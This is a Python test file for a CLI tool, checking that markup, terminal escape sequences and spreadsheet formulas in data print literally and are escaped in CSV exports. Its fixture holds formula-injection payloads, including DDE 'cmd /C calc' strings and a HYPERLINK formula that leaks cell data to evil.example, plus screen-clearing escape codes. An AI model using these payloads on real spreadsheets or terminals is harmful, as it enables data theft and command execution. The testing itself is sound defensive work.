"""Values are not markup, not terminal commands and not spreadsheet formulas.

Data, file names, model owners and error messages reach the terminal and CSV
files; each test feeds the real CLI values crafted to style or clear a terminal,
crash a command, or run as a formula in a spreadsheet, and checks they come out
literally (and, in JSON, unchanged).
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import polars as pl
import pytest
import yaml
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from shipyard.cli import cli
from shipyard.cli.output import literal, markup
from shipyard.data.csv_safe import FORMULA_START, escape_cell, escape_formulas, write_csv
from shipyard.demo import write_loans_batch

PROJECT = """\
project: attacks
datasets:
  notes:
    key: id
    columns:
      id: {type: int, nullable: false, unique: true}
      comment: {type: string}
      country: {type: category, categories: [DE, FR]}
      amount: {type: float}
"""

ROWS = [
    ["id", "comment", "country", "amount"],
    ["1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "DE", "-12.5"],
    ["2", "+cmd|' /C calc'!A0", "FR", "3"],
    ["3", "@SUM(1+1)*cmd|' /C calc'!A0", "DE", "-0.5"],
    ["4", "-2+3+cmd|' /C calc'!A0", "FR", "1"],
    ["5", "plain text", "DE", "2"],
    ["6", "-42", "DE", "4"],
    ["7", "oops[/]", "[bold red]x", "1"],
    ["8", "\x1b[2Jcleared\rfake line", "=1+1", "1"],
]

MARKUP_VALUES = ("[bold red]x", "oops[/]")


def run(folder: Path, *args: str) -> Result:
    return CliRunner().invoke(cli, ["-C", str(folder), *args], catch_exceptions=False)


@pytest.fixture
def notes(tmp_path: Path) -> Path:
    """A project whose first version holds formula-like text and markup-like values."""
    folder = tmp_path / "proj"
    folder.mkdir()
    (folder / "shipyard.yaml").write_text(PROJECT)
    batch = folder / "[bold red]batch.csv"  # a file name is a value too
    with batch.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows(ROWS)
    result = run(folder, "data", "ingest", "notes", str(batch))
    assert result.exit_code == 0, result.output
    return folder


# -- item 10: terminal output is not markup --------------------------------------


def test_markup_in_quarantined_values_neither_styles_nor_crashes_data_quarantine(
    notes: Path,
) -> None:
    result = run(notes, "data", "quarantine", "notes@1")
    assert result.exit_code == 0, result.output
    for value in (*MARKUP_VALUES, "=1+1"):
        assert value in result.stdout
    assert "Traceback" not in result.output


def test_control_characters_in_values_do_not_reach_the_terminal(notes: Path) -> None:
    result = run(notes, "data", "quarantine", "notes@1")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\r" not in result.stdout
    assert "\\x1b[2Jcleared" in result.stdout  # shown, not obeyed


def test_json_output_keeps_markup_and_control_values_exactly(notes: Path) -> None:
    rows = json.loads(run(notes, "data", "quarantine", "notes@1", "--json").stdout)
    values = {row["comment"] for row in rows} | {row["country"] for row in rows}
    assert {"oops[/]", "[bold red]x", "\x1b[2Jcleared\rfake line", "=1+1"} <= values


def test_markup_in_a_source_file_name_prints_literally_in_data_show_and_list(notes: Path) -> None:
    shown = run(notes, "data", "show", "notes@1")
    assert shown.exit_code == 0, shown.output
    assert "[boldred]batch.csv" in _squashed(shown.stdout)
    listed = run(notes, "data", "list")
    assert listed.exit_code == 0 and "notes@1" in listed.stdout
    log = run(notes, "data", "log", "notes")
    assert log.exit_code == 0 and "notes@1" in log.stdout


@pytest.mark.parametrize("name", ["oops[/]", "[bold red]x", "\x1b[2Jgone"])
def test_markup_in_a_did_you_mean_error_prints_literally_and_exits_2(
    notes: Path, name: str
) -> None:
    result = run(notes, "data", "log", name)
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert f"no dataset named '{literal(name)}'" in result.output
    assert "declared: notes" in result.output
    assert "\x1b" not in result.output


def test_markup_in_model_owner_and_audit_reason_prints_literally(project_dir: Path) -> None:
    file = project_dir / "shipyard.yaml"
    config = yaml.safe_load(file.read_text())
    config["models"]["default-risk"]["owner"]["name"] = "[bold red]risk-team oops[/]"
    file.write_text(yaml.safe_dump(config))
    write_loans_batch(project_dir / "b1.csv", rows=300, seed=1)
    assert run(project_dir, "data", "ingest", "loans", str(project_dir / "b1.csv")).exit_code == 0
    trained = run(project_dir, "train", "default-risk")
    assert trained.exit_code == 0, trained.output
    reason = "oops[/] [bold red]because"
    moved = run(
        project_dir, "models", "alias", "default-risk@1", "champion", "--force", "--reason", reason
    )
    assert moved.exit_code == 0, moved.output
    listed = run(project_dir, "models", "list")
    assert listed.exit_code == 0, listed.output
    assert "[bold" in listed.stdout and "oops[/]" in listed.stdout  # the table wraps the cell
    card = run(project_dir, "models", "show", "default-risk@1")
    assert card.exit_code == 0, card.output
    assert "[bold red]risk-team oops[/]" in card.stdout
    assert "oops[/]" in card.stdout and "red]because" in card.stdout  # the table wraps it
    audit = run(project_dir, "audit")
    assert audit.exit_code == 0
    assert "oops[/]" in audit.stdout and "red]because" in audit.stdout
    as_json = json.loads(run(project_dir, "models", "show", "default-risk@1", "--json").stdout)
    assert as_json["owner"]["name"] == "[bold red]risk-team oops[/]"


def _squashed(text: str) -> str:
    return "".join(text.split())


def test_markup_values_on_a_colour_terminal_are_not_styled(notes: Path) -> None:
    """The real executable with colours forced on: our styling shows, the data's does not."""
    exe = shutil.which("shipyard", path=str(Path(sys.executable).parent)) or "shipyard"
    env = {k: v for k, v in os.environ.items() if not k.startswith("SHIPYARD_")}
    env.pop("NO_COLOR", None)
    env.update(FORCE_COLOR="1", COLUMNS="200")
    result = subprocess.run(
        [exe, "-C", str(notes), "data", "quarantine", "notes@1"],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert "[bold red]x" in result.stdout and "oops[/]" in result.stdout
    assert "\x1b[1;31mx" not in result.stdout  # bold red never switched on by a value
    assert "\x1b[2J" not in result.stdout
    error = subprocess.run(
        [exe, "-C", str(notes), "data", "log", "[bold red]x"],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert error.returncode == 2
    assert "\x1b[1;31m" in error.stderr  # our own "error:" is styled...
    assert "'[bold red]x'" in error.stderr  # ...the name is not


def test_quarantine_csv_on_a_terminal_shows_control_characters_instead_of_obeying_them(
    notes: Path,
) -> None:
    """`data quarantine --csv -` on a real terminal (a pty): unvetted rows cannot clear it."""
    import pty

    exe = shutil.which("shipyard", path=str(Path(sys.executable).parent)) or "shipyard"
    env = {k: v for k, v in os.environ.items() if not k.startswith("SHIPYARD_")}
    leader, follower = pty.openpty()
    try:
        process = subprocess.Popen(
            [exe, "-C", str(notes), "data", "quarantine", "notes@1", "--csv", "-"],
            stdout=follower, stderr=subprocess.DEVNULL, env=env,
        )  # fmt: skip
        os.close(follower)
        chunks = []
        while True:
            try:
                chunk = os.read(leader, 65536)
            except OSError:  # the pty closes when the process exits
                break
            if not chunk:
                break
            chunks.append(chunk)
        assert process.wait(timeout=300) == 0
    finally:
        os.close(leader)
    shown = b"".join(chunks).decode()
    assert "\x1b" not in shown and "\\x1b[2Jcleared" in shown
    assert "'=1+1" in shown  # still the escaped CSV
    piped = run(notes, "data", "quarantine", "notes@1", "--csv", "-")
    assert "\x1b[2Jcleared" in piped.stdout  # to a pipe or file: the exact values


def test_control_characters_in_a_logged_file_name_do_not_reach_the_terminal(notes: Path) -> None:
    """`-v` logs the names of watched files; a name can carry an escape sequence."""
    inbox = notes / "inbox"
    inbox.mkdir()
    evil = inbox / "\x1b[2J\x1b]0;pwned\x07batch.csv"
    with evil.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows([ROWS[0], ["100", "fine", "DE", "1"]])
    os.utime(evil, (1_700_000_000, 1_700_000_000))  # settled long ago
    exe = shutil.which("shipyard", path=str(Path(sys.executable).parent)) or "shipyard"
    env = {k: v for k, v in os.environ.items() if not k.startswith("SHIPYARD_")}
    result = subprocess.run(
        [exe, "-v", "-C", str(notes), "data", "ingest", "notes", "--watch", str(inbox), "--once"],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert "watch: ingested" in result.stderr  # the log line is there...
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr  # ...without its codes
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout


def test_markup_helper_escapes_fields_and_keeps_its_own_styles() -> None:
    text = markup("[bold]{}[/] and {}", "oops[/]", "[red]x\x1b[2J")
    assert text.plain == "oops[/] and [red]x\\x1b[2J"
    assert [str(span.style) for span in text.spans] == ["bold"]


# -- item 11: CSV exports are safe in spreadsheets --------------------------------


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as source:
        return list(csv.DictReader(source))


def test_formula_cells_in_csv_export_are_escaped_and_negative_numbers_stay_numbers(
    notes: Path,
) -> None:
    out = notes / "notes.csv"
    result = run(notes, "data", "export", "notes@1", str(out))
    assert result.exit_code == 0, result.output
    assert "escaped 4 cells" in result.output and "--raw" in result.output
    rows = {row["id"]: row for row in _csv(out)}
    assert rows["1"]["comment"] == "'" + ROWS[1][1]
    assert rows["2"]["comment"] == "'" + ROWS[2][1]
    assert rows["3"]["comment"] == "'" + ROWS[3][1]
    assert rows["4"]["comment"] == "'" + ROWS[4][1]
    assert rows["5"]["comment"] == "plain text"
    assert rows["6"]["comment"] == "-42"  # a plain number is no formula
    assert rows["1"]["amount"] == "-12.5" and rows["3"]["amount"] == "-0.5"
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(FORMULA_START) or _is_number(cell)


def test_csv_export_with_raw_keeps_formula_cells_as_they_are(notes: Path) -> None:
    out = notes / "raw.csv"
    result = run(notes, "data", "export", "notes@1", str(out), "--raw")
    assert result.exit_code == 0, result.output
    assert "escaped" not in result.output
    rows = {row["id"]: row for row in _csv(out)}
    assert rows["1"]["comment"] == ROWS[1][1] and rows["4"]["comment"] == ROWS[4][1]


def test_data_quarantine_csv_escapes_formulas_and_keeps_the_reasons(notes: Path) -> None:
    out = notes / "quarantine.csv"
    result = run(notes, "data", "quarantine", "notes@1", "--csv", str(out))
    assert result.exit_code == 0, result.output
    rows = _csv(out)
    assert len(rows) == 2
    by_comment = {row["comment"]: row for row in rows}
    assert by_comment["oops[/]"]["country"] == "[bold red]x"
    assert "country" in by_comment["oops[/]"]["_reasons"]
    assert {row["country"] for row in rows} == {"[bold red]x", "'=1+1"}
    stdout = run(notes, "data", "quarantine", "notes@1", "--csv", "-")
    assert stdout.exit_code == 0
    assert list(csv.DictReader(io.StringIO(stdout.stdout))) == rows


def test_data_export_to_a_symlink_is_refused_and_its_target_untouched(
    notes: Path, tmp_path: Path
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("untouched")
    for target in ("out.csv", "out.jsonl", "out.parquet"):
        path = notes / target
        path.symlink_to(victim)
        result = run(notes, "data", "export", "notes@1", str(path))
        assert result.exit_code == 2, result.output
        assert "is a symbolic link" in result.output and "Traceback" not in result.output
    assert victim.read_text() == "untouched"


def test_data_quarantine_csv_to_a_symlink_is_refused(notes: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("untouched")
    (notes / "q.csv").symlink_to(victim)
    result = run(notes, "data", "quarantine", "notes@1", "--csv", str(notes / "q.csv"))
    assert result.exit_code == 2 and "is a symbolic link" in result.output
    assert victim.read_text() == "untouched"


def test_alert_rules_export_to_a_symlink_is_refused(project_dir: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("untouched")
    (project_dir / "rules.yaml").symlink_to(victim)
    result = run(project_dir, "alerts", "export", "-o", str(project_dir / "rules.yaml"))
    assert result.exit_code == 2 and "is a symbolic link" in result.output
    assert victim.read_text() == "untouched"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


_cells = st.lists(st.text(max_size=12), min_size=1, max_size=8)


@given(_cells)
def test_no_escaped_text_cell_starts_like_a_formula(values: list[str]) -> None:
    frame, _ = escape_formulas(pl.DataFrame({"comment": values}))
    for cell in frame["comment"].to_list():
        assert not cell.startswith(FORMULA_START) or _is_number(cell)


@given(_cells)
def test_escaping_agrees_cell_by_cell_and_is_undone_by_dropping_the_quote(
    values: list[str],
) -> None:
    frame, count = escape_formulas(pl.DataFrame({"comment": values}))
    escaped = frame["comment"].to_list()
    assert escaped == [escape_cell(v) for v in values]
    assert count == sum(e != v for e, v in zip(escaped, values, strict=True))
    assert [e[1:] if e != v else e for e, v in zip(escaped, values, strict=True)] == values


_csv_text = st.text(
    st.characters(blacklist_categories=["Cs"], blacklist_characters="\x00"), max_size=12
)


@given(st.lists(_csv_text, min_size=1, max_size=8))
def test_any_string_round_trips_through_a_raw_csv(values: list[str]) -> None:
    buffer = io.BytesIO()
    write_csv(pl.DataFrame({"text": values}), buffer, raw=True)
    buffer.seek(0)
    [header, *rows] = list(csv.reader(io.TextIOWrapper(buffer, encoding="utf-8", newline="")))
    assert header == ["text"]
    assert [row[0] if row else "" for row in rows] == values
